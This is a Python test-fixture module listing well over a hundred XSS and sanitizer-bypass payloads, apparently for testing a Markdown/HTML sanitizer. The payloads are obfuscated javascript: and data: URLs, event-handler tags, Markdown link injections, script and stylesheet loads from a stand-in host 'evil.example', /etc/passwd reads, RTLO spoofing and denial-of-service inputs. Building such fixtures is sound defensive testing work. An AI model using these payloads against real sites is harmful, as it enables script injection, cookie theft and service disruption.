"""Texts that tried to be more than text, from OWASP's lists, the tests of ammonia and DOMPurify, and Markdown's own corners (S03)."""

from collections.abc import Iterator

SCRIPTS = ("alert(1)", "alert`1`", "confirm(document.cookie)")
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "java\x00script:alert(1)",
    "\x01javascript:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)",
    "javascript\u200b:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>", "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "file:///etc/passwd",
    "blob:https://example.org/x", "filesystem:https://example.org/x", "about:blank", "jar:http://e!/x", "intent://x#Intent;end", "ftp://e/x",
    "//evil.example/x", "/\\evil.example/x", "\\\\evil.example/x", "///evil.example", "http:evil", "https:\\\\evil.example",
    "javascript://%0aalert(1)", "JAVASCRIPT:%61lert(1)", "javascript:/*--></title></style>*/alert(1)", "\u0130avascript:alert(1)",
)  # fmt: skip
HTML = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script\x20type=module>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<script/xss>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'//",
    "<img/src=`x`onerror=alert(1)>", '<img src="javascript:alert(1)">', "<img srcset='x 1x' onload=alert(1)>", "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>", "<math><mi xlink:href='data:x,<script>alert(1)</script>'>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<applet code=x>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=import href=//evil>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta charset=utf-7>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>", "<p style='background:url(//evil.example)'>x</p>", "<p style='x:expression(alert(1))'>x</p>",
    "<div style='position:fixed;inset:0'>x</div>", "<p class='button'>x</p>", "<p id='contenido'>x</p>", "<p hx-get='/mesa'>x</p>",
    "<p data-hx-get='/mesa'>x</p>", "<form action=//evil.example><input name=q></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<frameset onload=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>", "<title><img src=x onerror=alert(1)></title>", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)", "<template><script>alert(1)</script></template>", "<!--<img src=x onerror=alert(1)>-->",
    "<!--><script>alert(1)</script>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>", "<!DOCTYPE html><script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>", "<a href=# onclick=alert(1)>x</a>", "<a target=_blank href=https://e.pe>x</a>",
    "<a href='https://e.pe' ping='//evil.example'>x</a>", "<a download href=/x>x</a>", "</p><script>alert(1)</script><p>",
    "<p/onmouseover=alert(1)>x", "<p\x0conmouseover=alert(1)>x", "<p onmouseover\x00=alert(1)>x", "<x onclick=alert(1)>x</x>", "<isindex action=javascript:alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>", "<td background=x onload=alert(1)>", "<ol type=javascript><li onclick=alert(1)>x</ol>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>", "<portal src=//evil.example>", "<dialog open>x</dialog>", "<slot onslotchange=alert(1)>",
    "<custom-element onclick=alert(1)>", "<h1 onclick=alert(1)>x</h1>", "<scr\u0131pt>alert(1)</scr\u0131pt>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<img src=x:alert(alt) onerror=eval(src) alt=0>", "{{7*7}}{% include '/etc/passwd' %}",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](javascript:alert(1) 'title')", "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))", "![x](https://evil.example/p.png)", "![x\"onerror=\"alert(1)](x)", '[x](https://e.pe "onmouseover=alert(1)")',
    "[x](https://e.pe'onclick='alert(1))", '[x](https://e.pe"onclick="alert(1))', "<javascript:alert(1)>", "<https://e.pe/\"onclick=alert(1)>",
    "[<img src=x onerror=alert(1)>](https://e.pe)", "[x](//evil.example)", "[x](/\\evil.example)", "[x](\\\\evil.example)",
    "`<script>alert(1)</script>`", "    <script>alert(1)</script>", "```\n<script>alert(1)</script>\n```", "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>", "# <script>alert(1)</script>", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "| a |\n|:-:|\n| x |", "x\u202egnp.exe", "[https://gob.pe](https://evil.example)", "[\u202ehttps://gob.pe](https://evil.example)", "a\u200bb\u2066c\u2069",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](mailto:a@b.pe?body=<script>)", "[x](tel:+51\"onclick=alert(1))",
    "[x](https://user:pass@evil.example)", "[x][1]\n\n[1]: <javascript:alert(1)> 'x'", "*<b onclick=alert(1)>x</b>*", "\x1b[31mrojo", "a\x00b",
    "***<svg/onload=alert(1)>***", "[a](javascript:alert(1)\n)", "[a](java\nscript:alert(1))", "[a](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[a](javascript&#58alert(1))", "![a](data:image/svg+xml;base64,PHN2Zz4=)", "<div>\n\n[x](javascript:alert(1))\n\n</div>",
)  # fmt: skip
HEAVY = (
    "[" * 5000 + "]" * 5000, "(" * 9000, "- " * 500, "> " * 2000, "*" * 9000, "_a" * 5000, "`" * 9999, "![" * 4000, "[a](" * 4000, "<a " * 4000,
    "&" * 9000, "a\n" * 9000, "|" * 9000, "| a " * 3000 + "\n" + "|---" * 3000, "#" * 9000, "1. " * 3000, "\t" * 9000, "a" * 200_000,
    "[x]: y\n" * 2500, "*a **a " * 2500, "<!--" * 4000, "e\u0301" * 9000, "e" + "\u0301" * 9000, "\n" * 19_000, "[[[[" * 2500 + "](x)" * 2500,
    "  " * 5000 + "- a", "\\" * 9000, "<" * 9000, "a@b." * 4000, "http://" * 2500,
)  # fmt: skip


def payloads() -> Iterator[str]:
    """At least 150; each scheme is tried in a Markdown link, a reference, an autolink and an HTML link."""
    yield from HTML
    yield from MARKDOWN
    for scheme in SCHEMES:
        yield f"[x]({scheme})"
        yield f"[x][r]\n\n[r]: {scheme}"
        yield f"<{scheme}>"
        yield f'<a href="{scheme}">x</a>'
